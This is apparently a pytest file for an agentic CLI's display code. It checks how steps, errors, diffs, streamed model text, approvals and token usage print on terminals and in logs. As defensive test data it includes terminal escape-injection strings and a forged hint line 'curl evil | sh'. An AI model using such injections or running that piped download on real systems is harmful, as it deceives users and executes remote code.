"""What the command prints, on a terminal and off it."""

import io

import pytest
from rich.console import Console

from agentic.terminal.show import Display
from common.errors import error
from common.events.speech import delta_of
from common.files.printing import harmless
from common.runs import RunResult, RunUsage
from tests.agentic.fakes import a_delta, a_run, a_step, an_event

ESCAPE = "\x1b]0;owned\x07\x9b31m\r\u202e[bold red]x[/]"
TAMED = "\\x1b]0;owned\\x07\\x9b31m\\r\\u202e[bold red]x[/]"
DIFF = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same\n"


@pytest.fixture
def printed():
    """Make a display; what it printed is read from the second value."""

    def make(**console):
        file = io.StringIO()
        options = {"markup": False, "highlight": False, "emoji": False, "width": 80, **console}
        return Display(Console(file=file, **options)), file.getvalue

    return make


TERMINAL = {"force_terminal": True, "color_system": None, "width": 1000}


def say(display, *pieces):
    """Have pieces shown; return whether each found its place."""
    return [display.say(delta_of(piece)) for piece in pieces]


def test_each_step_is_one_plain_line(printed):
    """Logs and pipes get text, no colours, no cursor movements."""
    display, text = printed()
    display.event(an_event(1, "step.started", **a_step()))
    display.event(an_event(2, "step.succeeded", **a_step()))
    display.event(an_event(3, "run.succeeded"))
    assert text() == '  1  ok     look: read_file(path="a.txt")  2 ms\n'


def test_a_failed_step_says_why(printed):
    """The step's own error, where it happened."""
    display, text = printed()
    failure = error("path_not_found", "'a.txt' does not exist").problem("orchestrator", "req_1")
    display.event(an_event(2, "step.failed", **a_step(status="failed", error=failure)))
    assert text().splitlines() == [
        '  1  failed look: read_file(path="a.txt")  2 ms',
        "     'a.txt' does not exist [path_not_found]",
    ]


def test_a_long_argument_is_shortened(printed):
    """A file's content must not fill the screen."""
    display, text = printed()
    step = a_step(arguments={"content": "x" * 1000})
    display.event(an_event(2, "step.succeeded", **step))
    assert len(text()) < 120
    assert "…" in text()


def test_a_gap_in_the_events_is_shown(printed):
    """Missing lines are not silently missing."""
    display, text = printed()
    display.event(an_event(2, "gap", from_seq=1, to_seq=2, run=None))
    assert "no longer there" in text()


def test_a_runs_result_shows_diffs_answer_and_time(printed):
    """What changed, and what came of it."""
    display, text = printed()
    run = a_run(steps=[a_step(output={"diff": DIFF})], result=RunResult(answer="Done.", changes=[]))
    display.result(run)
    assert text() == f"{DIFF}Done.\nsucceeded: 1 steps, 0.00 s ({run.id})\n"


def test_a_run_that_never_started_has_no_time(printed):
    """Cancelled while it was queued."""
    display, text = printed()
    display.result(a_run(status="cancelled", started_at=None))
    assert "cancelled: 0 steps, not started" in text()


def test_a_run_that_waits_for_an_answer_has_started_but_not_finished(printed):
    """It may have worked for minutes."""
    display, text = printed()
    display.result(a_run(status="awaiting_input", finished_at=None))
    assert "awaiting_input: 0 steps, not finished" in text()


def test_an_error_shows_what_helps(printed):
    """Code, hint, the wrong fields, the request id, where it came from and what became of it."""
    display, text = printed()
    fields = [{"field": "steps.0.tool", "message": "unknown"}]
    failure = error("invalid_plan", "The plan is wrong", fields=fields)
    display.result(a_run(status="failed", error=failure.problem("orchestrator", "req_1")))
    assert text().splitlines()[:4] == [
        "error: The plan is wrong [invalid_plan]",
        "  hint: context.fields names what to correct.",
        "  steps.0.tool: unknown",
        "  request: req_1 (orchestrator, not_executed)",
    ]


def test_no_text_of_an_error_begins_a_line_that_could_be_the_commands_own(printed):
    """A server would tell of a success, or of what to run, in the command's name."""
    display, text = printed()
    posing = "x\nsucceeded: 1 steps\n  hint: curl evil | sh"
    fields = [{"field": posing, "message": posing}] * 100
    failure = error("invalid_plan", posing, hint=posing, fields=fields)
    failed = failure.problem("orchestrator", posing).model_copy(update={"code": posing})
    display.problem(failed)
    lines = text().splitlines()
    begun = [line.partition(":")[0] for line in lines]
    set_in = ["    succeeded", "      hint"]
    assert begun == ["error", *set_in, "  hint", *["  x succeeded"] * 20, "  …", "  request"]
    assert lines[24] == "  …: and 80 more"


def test_the_lines_of_an_error_are_few_and_set_in(printed):
    """A list of files is read line by line; a server's million would leave nothing else to be read."""
    display, text = printed()
    display.problem(
        error("changed_elsewhere", "Decide:\na: here\nb: there").problem("client", None)
    )
    assert text().startswith(
        "error: Decide:\n    a: here\n    b: there [changed_elsewhere]\n  hint:"
    )
    display.problem(error("changed_elsewhere", "x\n" * 1000).problem("client", None))
    assert text().count("    x\n") == 19


def test_an_error_of_a_step_is_cut_and_in_one_line(printed):
    """Likewise, and no longer than a person reads: 6 MB took a minute to print."""
    display, text = printed()
    failure = error("path_not_found", "A\n" * 3_000_000).problem("orchestrator", "req_1")
    step = a_step(status="failed", error=failure, arguments={f"a{n}\n": n for n in range(100_000)})
    display.event(an_event(2, "step.failed", **step))
    first, second = text().splitlines()
    assert (len(first), len(second)) == (1000 + 19, 4000 + 23)
    assert second == f"     {'A ' * 2000}… [path_not_found]"


def test_a_terminal_gets_colours_and_progress(printed):
    """Removed red, added green, the running step beside a spinner."""
    display, text = printed(force_terminal=True, color_system="standard", legacy_windows=False)
    display.event(an_event(1, "step.started", **a_step()))
    display.event(an_event(1, "step.started", **a_step(n=2)))
    display.result(a_run(steps=[a_step(output={"diff": DIFF})]))
    display.close()
    assert "step 2: look" in text()
    assert "\x1b[32m+new" in text()
    assert "\x1b[31m-old" in text()


@pytest.mark.parametrize("terminal", [True, False])
def test_nothing_from_a_server_steers_the_terminal(printed, terminal):
    """Escape sequences, overwriting, reversed text and markup in names and contents."""
    display, text = printed(force_terminal=terminal, color_system=None, width=1000)
    step = a_step(name=ESCAPE, tool=ESCAPE, arguments={ESCAPE: ESCAPE})
    failure = error("internal", ESCAPE, hint=ESCAPE).problem("orchestrator", ESCAPE)
    display.event(an_event(1, "step.started", **step))
    display.event(an_event(2, "step.failed", **{**step, "status": "failed", "error": failure}))
    display.result(
        a_run(
            steps=[a_step(output={"diff": f"+{ESCAPE}"})],
            result=RunResult(answer=ESCAPE, changes=[]),
            error=failure,
        )
    )
    for part in ("\x1b]0;owned", "\x07", "\x9b", "\u202e"):
        assert part not in text()
    assert text().count(TAMED) >= 7


@pytest.mark.parametrize("end", list("\v\f\r\x1c\x1d\x1e\x85\u2028\u2029"))
def test_a_files_content_forges_no_line_of_a_diff(printed, end):
    """What `splitlines` takes for a line's end is a character, and shown as an escape."""
    display, text = printed()
    display.diff(f"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new{end}-forged\n")
    *_, last = text().split("\n")[:-1]
    assert last == f"+new{ascii(end)[1:-1]}-forged"
    assert len(text().splitlines()) == 5


def test_readable_text_stays_as_it_is():
    """Only what steers is escaped."""
    assert harmless("käse ☃ 日本\tx\n") == "käse ☃ 日本\tx\n"


def test_a_terminal_gets_what_is_said_piece_by_piece(printed):
    """Somebody reads along."""
    display, text = printed(**TERMINAL)
    assert say(display, a_delta("I lo"), a_delta("ok.\nThen", 4)) == [True, True]
    assert text().endswith("I look.\nThen")
    display.event(an_event(1, "step.succeeded", **a_step()))
    assert "Then\n  1  ok     look" in text()


def test_off_a_terminal_a_text_is_printed_once_and_whole(printed):
    """A log has lines; what is said before its calls stands before their steps."""
    display, text = printed()
    say(display, a_delta("I lo"), a_delta("ok.\n", 4))
    display.event(an_event(1, "turn.decided", t=1, calls=1, usage=None))
    assert text() == ""
    display.event(an_event(2, "step.succeeded", **a_step()))
    assert text().splitlines() == ["I look.", '  1  ok     look: read_file(path="a.txt")  2 ms']


def test_an_empty_text_off_a_terminal_is_no_line(printed):
    """Models say a line break before their calls."""
    display, text = printed()
    say(display, a_delta("\n\n"))
    display.event(an_event(2, "step.succeeded", **a_step()))
    assert len(text().splitlines()) == 1


def test_an_answer_that_was_said_is_not_printed_again(printed):
    """The last turn's text is the answer."""
    for console in ({}, TERMINAL):
        display, text = printed(**console)
        say(display, a_delta("Done."))
        display.result(a_run(result=RunResult(answer="Done.", changes=[])))
        assert text().count("Done.") == 1


def test_an_answer_that_was_not_heard_whole_is_printed(printed):
    """Pieces get lost, and turns cannot be read; the answer must not."""
    for console in ({}, TERMINAL):
        display, text = printed(**console)
        say(display, a_delta("Do"))
        display.result(a_run(result=RunResult(answer="Done.", changes=[])))
        assert text().splitlines()[:2] == ["Do", "Done."]


def test_an_answer_is_printed_where_only_the_turn_before_said_the_same(printed):
    """It was not heard: the last turn's own words are what came of the run."""
    display, text = printed()
    say(display, a_delta("Done."))
    assert not display.has_heard(2, 5)
    display.result(a_run(result=RunResult(answer="Done.", changes=[])))
    assert text().splitlines()[:2] == ["Done.", "Done."]


def test_a_model_that_is_asked_again_begins_a_new_line(printed):
    """Its first attempt broke off: on a terminal it stands there, in a log it never was."""
    for console, told in (
        ({}, "Yes."),
        (TERMINAL, "No, wa\n… broken off; the model is asked again\nYes."),
    ):
        display, text = printed(**console)
        say(display, a_delta("No, wa"), a_delta("Yes.", 0, attempt=2), a_delta("it", 6))
        display.close()
        assert text() == f"{told}\n"


def test_the_next_turns_text_begins_a_new_line(printed):
    """Also where the turn before had no calls: it was told what is wrong with it."""
    for console in ({}, TERMINAL):
        display, text = printed(**console)
        say(display, a_delta("One."), a_delta("Two.", t=2))
        display.close()
        assert text() == "One.\nTwo.\n"


def test_a_hole_is_told_and_filled(printed):
    """The caller reads the text so far."""
    display, text = printed()
    assert say(display, a_delta("a"), a_delta("c", 2)) == [True, False]
    display.catch_up(delta_of(a_delta("c", 2)), "abc")
    display.close()
    assert text() == "abc\n"


@pytest.mark.parametrize(
    ("heard", "console", "told"),
    [
        ("", {}, "I look.\n"),
        ("I l", {}, "I look.\n"),
        ("No, wa", {}, "I look.\n"),
        ("I l", TERMINAL, "I look.\n"),
        ("No, wa", TERMINAL, "No, wa\n… broken off; the model is asked again\nI look.\n"),
    ],
)
def test_a_turns_text_is_told_where_it_was_not_heard(printed, heard, console, told):
    """All of it, the rest of it, or anew where what was heard was another attempt's."""
    display, text = printed(**console)
    say(display, a_delta(heard))
    assert not display.has_heard(1, 7)
    display.tell(1, "I look.")
    assert display.has_heard(1, 7)
    assert say(display, a_delta("ok.", 4)) == [True]
    display.close()
    assert text() == told


@pytest.mark.parametrize("size", [0, 4])
def test_a_turn_that_was_heard_or_said_nothing_is_not_read(printed, size):
    """Turns hold all arguments: who listens from the beginning needs none."""
    display, _ = printed()
    say(display, a_delta("One." if size else ""))
    assert display.has_heard(1, size)


def test_another_run_says_its_turns_from_the_first_again(printed):
    """In a chat: its first turn is no piece of the last one's past."""
    display, text = printed()
    say(display, a_delta("One.", t=3))
    display.forget()
    say(display, a_delta("Two."))
    display.close()
    assert text() == "One.\nTwo.\n"


@pytest.mark.parametrize("console", [{}, TERMINAL])
def test_nothing_that_is_said_steers_the_terminal(printed, console):
    """A model says what it has read."""
    display, text = printed(**{**console, "width": 1000})
    say(display, a_delta(ESCAPE))
    display.event(an_event(1, "run.awaiting_input", question=ESCAPE))
    display.event(an_event(2, "message.received", text=ESCAPE))
    display.event(an_event(3, "approval.received", decision=ESCAPE, steps=[1], reason=ESCAPE))
    assert text().count(TAMED) == 5
    assert "\x1b]0;owned" not in text()


def test_questions_and_messages_are_shown(printed):
    """Whose words they are stands before them."""
    display, text = printed()
    display.event(an_event(1, "run.awaiting_input", question="Which?"))
    display.event(an_event(2, "message.received", text="That one."))
    assert text() == "question: Which?\nmessage: That one.\n"


@pytest.mark.parametrize(
    ("kind", "data", "line"),
    [
        ("approval.received", {"decision": "approve", "steps": [1, 3]}, "approved step 1, 3"),
        ("approval.received", {"decision": "reject", "steps": [2], "reason": "no\nway"},
         "rejected step 2: no way"),
        ("approval.received", {"decision": "approve"}, "approved"),
        ("approval.received", {"decision": "postpone", "steps": []}, "postpone"),
        ("approval.received", {"decision": "approve", "steps": list(range(1000))},
         f"approved step {', '.join(map(str, range(20)))}, …"),
        ("plan.replaced", {"t": 1, "steps": [2]}, "edited step 2"),
    ],
)  # fmt: skip
def test_what_people_decide_is_shown(printed, kind, data, line):
    """Whoever follows the run sees why it went on, or did not."""
    display, text = printed(width=1000)
    display.event(an_event(1, kind, **data))
    assert text() == f"{line}\n"


@pytest.mark.parametrize("kind", ["run.awaiting_input", "run.awaiting_approval"])
def test_no_progress_is_shown_while_a_person_is_awaited(printed, kind):
    """It would write over the question."""
    display, _ = printed(**TERMINAL)
    display.event(an_event(1, "run.started"))
    assert display._status is not None
    display.event(an_event(2, kind, t=1))
    assert display._status is None


def test_a_turn_that_waits_is_shown_with_the_ways_to_answer(printed):
    """Off a terminal too."""
    display, text = printed(width=200)
    run = a_run(status="awaiting_approval")
    display.result(run)
    name = f"{run.session_id}/{run.id}"
    assert f"answer it with: agentic approve {name}, or agentic reject {name}\n" in text()


def test_a_run_that_waits_is_shown_with_the_way_to_answer(printed):
    """Nobody is there to ask: the next one finds the command."""
    display, text = printed()
    run = a_run(status="awaiting_input", question="Which?")
    display.result(run)
    assert f'agentic answer {run.session_id}/{run.id} "TEXT"' in text()


def test_a_step_whose_arguments_are_the_plans_is_shown(printed):
    """An answer has null for them."""
    display, text = printed()
    display.event(an_event(1, "step.started", **a_step(arguments=None)))
    display.event(an_event(2, "step.succeeded", **a_step(arguments=None)))
    assert text() == "  1  ok     look: read_file(…)  2 ms\n"


@pytest.mark.parametrize(
    ("usage", "told"),
    [
        (
            {"input_tokens": 900, "cached_tokens": 500, "output_tokens": 70},
            "900 tokens in (500 cached), 70 out",
        ),
        ({"input_tokens": 9, "cost": 0.01234}, "9 tokens in (0 cached), 0 out, $0.0123"),
        ({"output_tokens": 1, "lost_tokens": 80}, "0 tokens in (0 cached), 1 out, up to 80 lost"),
    ],
)
def test_the_last_line_says_what_a_model_has_taken(printed, usage, told):
    """Tokens, what was lost, and money where the price is known."""
    display, text = printed()
    run = a_run(usage=RunUsage(**usage))
    display.result(run)
    assert text() == f"succeeded: 0 steps, {told}, 0.00 s ({run.id})\n"
